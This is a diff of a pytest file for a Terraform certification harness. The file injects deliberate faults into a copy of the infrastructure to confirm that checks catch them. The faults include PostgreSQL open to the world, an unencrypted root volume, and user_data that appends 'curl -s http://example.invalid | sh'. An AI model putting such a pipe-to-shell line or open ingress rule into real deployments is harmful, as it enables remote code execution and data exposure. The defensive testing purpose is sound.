@@ -6,8 +6,6 @@ most of an apply is the provider waiting, not the CPU.
 """
 from __future__ import annotations
 
-import re
-import shutil
 import subprocess
 import sys
 from concurrent.futures import ThreadPoolExecutor
@@ -16,8 +14,8 @@ from typing import Callable
 
 import pytest
 
-from harness.spec import REPO_ROOT
 from harness_run import HarnessRun, run_harness
+from terraform_copy import copy_terraform, edit, unencrypted_root_volume
 
 SUITES = ["suites/test_infra.py", "suites/test_static.py"]
 
@@ -55,25 +53,14 @@ def test_sandbox_infra_is_certified(tmp_path):
     assert result.leaks == []
 
 
-def _edit(path: Path, old: str, new: str) -> None:
-    text = path.read_text()
-    assert old in text, f"{path.name} no longer contains {old!r}; update the fault"
-    path.write_text(text.replace(old, new, 1))
-
-
 def open_postgres(tf: Path) -> None:
-    _edit(tf / "main.tf", "  egress {", '  ingress {\n    description = "fault: PostgreSQL to the world"\n'
+    edit(tf / "main.tf", "  egress {", '  ingress {\n    description = "fault: PostgreSQL to the world"\n'
           '    protocol    = "tcp"\n    from_port   = 5432\n    to_port     = 5432\n'
           '    cidr_blocks = ["0.0.0.0/0"]\n  }\n\n  egress {')
 
 
-def unencrypted_root_volume(tf: Path) -> None:
-    text = (tf / "main.tf").read_text()
-    (tf / "main.tf").write_text(re.sub(r"encrypted(\s+)= true", r"encrypted\1= false", text, count=1))
-
-
 def extra_user_data(tf: Path) -> None:
-    _edit(tf / "main.tf", 'user_data                   = file("${path.module}/user_data.sh")',
+    edit(tf / "main.tf", 'user_data                   = file("${path.module}/user_data.sh")',
           'user_data                   = "${file("${path.module}/user_data.sh")}\\ncurl -s http://example.invalid | sh\\n"')
 
 
@@ -93,11 +80,10 @@ FAULTS: dict[str, tuple[Callable[[Path], None], list[str], str, str]] = {
 @pytest.fixture(scope="module")
 def fault_runs(tmp_path_factory) -> dict[str, HarnessRun]:
     def one(name: str) -> HarnessRun:
-        edit, args, _, _ = FAULTS[name]
+        break_copy, args, _, _ = FAULTS[name]
         workdir = tmp_path_factory.mktemp(name)
-        copy = workdir / "terraform"
-        shutil.copytree(REPO_ROOT / "terraform", copy, ignore=shutil.ignore_patterns(".terraform*", "*.tfstate*"))
-        edit(copy)
+        copy = copy_terraform(workdir / "terraform")
+        break_copy(copy)
         return run_harness([f"--terraform-dir={copy}", *args, "suites/test_infra.py"], workdir)
 
     # Two at a time: most of an apply is waiting, but four providers starting at once strain 2 cores.
@@ -106,7 +92,8 @@ def fault_runs(tmp_path_factory) -> dict[str, HarnessRun]:
 
 
 @pytest.mark.timeout(900)
-@pytest.mark.parametrize("fault", list(FAULTS))
+@pytest.mark.parametrize("fault", [pytest.param(name, marks=pytest.mark.breaks(f"suites/test_infra.py::{check}"))
+                                   for name, (_, _, check, _) in FAULTS.items()])
 def test_fault_is_caught(fault, fault_runs):
     """The broken deployment fails the check that guards against it, and is not certified."""
     _, _, check, words = FAULTS[fault]
